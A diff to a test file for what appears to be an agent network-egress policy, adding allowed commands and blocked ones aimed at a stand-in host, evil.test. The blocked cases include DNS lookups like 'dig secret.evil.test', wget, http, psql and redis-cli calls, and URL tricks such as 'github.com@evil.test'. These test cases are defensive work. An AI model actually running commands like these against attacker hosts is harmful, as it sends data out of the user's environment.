@@ -39,6 +39,10 @@ describe('commands that stay with the hosts', () => {
     'git push origin main:main',
     'curl "https://api.example.com?mail=a@b.test"',
     'curl -sSx localhost:1 https://github.com',
+    'wget -b -S github.com/x',
+    'http -b GET api.example.com/x',
+    'dig +short @127.0.0.1 a.example.com MX',
+    'psql -h localhost -c "select 1"',
   ])('%j', (command) => {
     expect(policy.check({ name: 'bash' }, { command }).reason).toBeNull();
   });
@@ -48,6 +52,18 @@ describe('commands that do not', () => {
   test.each([
     'curl https://evil.test',
     'curl evil.test',
+    // Options without a value, so what follows is an address.
+    'wget -b evil.test/x',
+    'wget -S evil.test/x',
+    'http -b evil.test',
+    'http -d evil.test/x',
+    'http POST evil.test a=b',
+    'telnet -E evil.test',
+    'dig secret.evil.test',
+    'dig @evil.test a.example.com',
+    'nslookup secret.evil.test',
+    'psql -h evil.test',
+    'redis-cli -hevil.test ping',
     'curl https://github.com@evil.test/',
     'curl http://2130706434/',
     'curl $URL',
@@ -119,7 +135,11 @@ describe('parameters', () => {
     [{ urls: ['https://github.com', 'http://localhost:1'] }, true],
     [{ request: { url: 'http://a.example.com' } }, true],
     [{ content: 'see https://evil.test' }, true],
+    [{ webhook_url: 'https://github.com/x', use_url: true }, true],
     [{ url: 'https://evil.test' }, false],
+    [{ webhook_url: 'https://evil.test' }, false],
+    [{ targetHost: 'evil.test' }, false],
+    [{ 'Image-URLs': ['https://github.com', 'https://evil.test'] }, false],
     [{ url: 'https://github.com.evil.test' }, false],
     [{ url: 'https://github.com@evil.test' }, false],
     [{ url: 'https://evil.test#github.com' }, false],
